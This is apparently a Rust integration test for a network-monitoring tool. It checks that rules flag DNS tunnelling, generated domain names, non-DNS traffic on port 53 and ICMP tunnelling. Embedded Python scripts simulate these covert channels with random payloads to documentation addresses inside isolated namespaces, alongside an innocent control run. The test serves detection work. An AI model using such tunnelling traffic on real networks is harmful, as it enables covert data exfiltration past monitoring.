//! Data hidden in questions and in pings: a real program, a real server at the other end of a cable, and
//! the same amount of traffic with nothing in it.

use std::collections::BTreeSet;
use std::process::Command;

use serde_json::Value;

use crate::actor::{Actor, Place, python};
use crate::network::Namespace;
use crate::program::{Run, WHOCALLS};
use crate::setting::{Need, lacks, skip};

/// Answers each question (nothing exists but what lies below a door and a shed), on another address
/// whatever else comes there, and pings with something of its own.
const TUNNEL: &str = "
serve_echoes = True
";
/// The same, and the kernel answers pings.
const SERVER: &str = "
serve_echoes = False
";
const SERVE: &str = r#"
import random
def is_question(got): return got[2:6] == b'\x01\x00\x00\x01'
def answer(asked):
    if b'door' in asked:
        text = bytes(random.choices(b'abcdefghijklmnopqrstuvwxyz234567', k=200))
        row = b'\xc0\x0c' + struct.pack('>HHIH', 16, 1, 0, 201) + bytes([200]) + text
    elif b'shed' in asked:
        row = b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 60, 4) + bytes([192, 0, 2, 2])
    else:
        return asked[:2] + b'\x81\x83\0\x01\0\0\0\0\0\0' + asked[12:]
    return asked[:2] + b'\x81\x80\0\x01\0\x01\0\0\0\0' + asked[12:] + row
def serve(address):
    made = keep(socket(AF_INET, SOCK_DGRAM)); made.bind((address, 53))
    def run():
        while True:
            got, whom = made.recvfrom(4096)
            other = b'\xff' * random.randrange(200, 900)
            made.sendto(answer(got) if is_question(got) else other, whom)
    threading.Thread(target=run, daemon=True).start()
def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return struct.pack('>H', total ^ 0xffff)
def echoes():
    with open('/proc/sys/net/ipv4/icmp_echo_ignore_all', 'w') as it: it.write('1')
    made = keep(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP))
    def run():
        while True:
            got, whom = made.recvfrom(4096); got = got[(got[0] & 15) * 4:]
            if got[0] == 8:
                body = got[4:8] + random.randbytes(random.randrange(20, 200))
                made.sendto(b'\0\0' + checksum(b'\0\0\0\0' + body) + body, whom)
    threading.Thread(target=run, daemon=True).start()
serve('192.0.2.2'); serve('192.0.2.3')
if serve_echoes: echoes()
ready()
"#;

/// What both programs begin with.
const ASK: &str = r#"
import random, struct
from socket import *
def labels(name):
    return b''.join(bytes([len(part)]) + part.encode() for part in name.split('.')) + b'\0'
def made(kind=SOCK_DGRAM, protocol=0):
    it = socket(AF_INET, kind, protocol); it.settimeout(30); return it
asking, other, pinging = made(), made(), made(SOCK_RAW, IPPROTO_ICMP)
def tell(through, what, whom):
    through.sendto(what, whom); through.recv(4096)
def ask(name, kind, whom='192.0.2.2', through=asking):
    head = struct.pack('>HHHHHH', random.randrange(65536), 256, 1, 0, 0, 0)
    tell(through, head + labels(name) + struct.pack('>HH', kind, 1), (whom, 53))
def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return struct.pack('>H', total ^ 0xffff)
def ping(number, data):
    body = struct.pack('>HH', 77, number) + data
    tell(pinging, b'\x08\0' + checksum(b'\x08\0\0\0' + body) + body, ('192.0.2.2', 0))
def letters(count): return ''.join(random.choices('abcdefghijklmnopqrstuvwxyz234567', k=count))
"#;

const GUILTY: &str = r#"
for number in range(60):
    ask(letters(48) + '.t.cellar-door.net', 16)
    tell(other, b'\xff' * random.randrange(200, 900), ('192.0.2.3', 53))
    ping(number, random.randbytes(random.randrange(200, 1200)))
for _ in range(40):
    ask(''.join(random.choices('bcdfghjklmnpqrstvwxz', k=14)) + '.com', 1)
"#;

/// As many questions, packets and pings: a few names again and again, names that people would give,
/// questions where the other sends something else, and pings of one size.
const INNOCENT: &str = r#"
words = 'apple river green stone winter garden paper silver morning window'.split()
for number in range(60):
    ask(words[number % 10] + '.garden-shed.net', 1)
    ask(words[number % 7] + '.garden-shed.net', 1, '192.0.2.3', other)
    ping(number, bytes(range(56)))
for number in range(40):
    ask(words[number % 10] + words[number // 10 + 5] + '.com', 1)
"#;

/// All rules about what is hidden in questions and in pings.
const RULES: [&str; 6] = [
    "dns_tunnel",
    "dns_direct",
    "dns_commands",
    "not_dns",
    "dga",
    "icmp_tunnel",
];

/// One after the other: what programs ask in the same moment counts together where they are the same program.
#[test]
fn what_is_hidden_in_questions_and_in_pings_is_found() {
    let Some(innocent) = watched(SERVER, INNOCENT) else {
        return;
    };
    assert_eq!(rules(&innocent), BTreeSet::new(), "{innocent:#?}");
    let Some(guilty) = watched(TUNNEL, GUILTY) else {
        return;
    };
    let found = rules(&guilty);
    let all = ["dga", "dns_tunnel", "icmp_tunnel", "not_dns"];
    assert_eq!(found, BTreeSet::from(all), "{guilty:#?}");
    let of = |rule: &str| guilty.iter().rfind(|it| it["rule"] == rule).unwrap();
    let tunnel = of("dns_tunnel");
    assert_eq!(tunnel["facts"]["name"], "cellar-door.net", "{tunnel}");
    assert_eq!(tunnel["facts"]["names"], 60, "{tunnel}");
    assert_eq!(of("not_dns")["about"]["remote"]["ip"], "192.0.2.3");
    assert_eq!(of("icmp_tunnel")["facts"]["packets_sent"], 60);
    for finding in all.map(of) {
        let word = finding["severity"].as_str().unwrap();
        assert!(["medium", "high"].contains(&word), "{finding}");
        assert!(finding["about"]["process"].is_string(), "{finding}");
    }
}

fn rules(findings: &[Value]) -> BTreeSet<&str> {
    let words = findings.iter().filter_map(|it| it["rule"].as_str());
    words.collect()
}

/// What is found of the program that asks, by these rules, while it does. `None` where it cannot be seen; then
/// that was said.
fn watched(server: &str, asks: &str) -> Option<Vec<Value>> {
    if lacks(&[Need::Program("python3")]) {
        return None;
    }
    let (here, there) = (Namespace::new()?, Namespace::new()?);
    if !here.connect(&there) {
        return None;
    }
    there.ip(&["addr", "add", "192.0.2.3/24", "dev", "cable"]);
    let (_server, _) = Actor::start(Place::Inside(&there), &format!("{server}{SERVE}"));
    let mut command = Command::new(WHOCALLS);
    command.args(["watch", "--ndjson", "--until-exit", "--"]);
    command.args(["ip", "netns", "exec", &here.name]);
    command.arg(python()).args(["-c", &format!("{ASK}{asks}")]);
    let run = Run::of(&mut command);
    assert_eq!(run.code, Some(0), "{}", run.talk());
    let text = run.text();
    let lines = text.lines().map(|line| serde_json::from_str(line).unwrap());
    let lines: Vec<Value> = lines.collect();
    if lines
        .first()
        .is_some_and(|start| start["tier"] == "polling")
    {
        skip("names and packets are read where events are");
        return None;
    }
    let end = lines.last().unwrap();
    assert_eq!(end["program"]["status"]["code"], 0, "{end} {}", run.talk());
    // Whoever answers pings with something else is found, too: that is not asked here.
    let of_asker = |it: &&Value| it["about"]["remote"]["ip"] != "192.0.2.1";
    let findings = lines.iter().filter(|it| it["type"] == "finding");
    let findings = findings.filter(|it| RULES.iter().any(|rule| it["rule"] == *rule));
    Some(findings.filter(of_asker).cloned().collect())
}
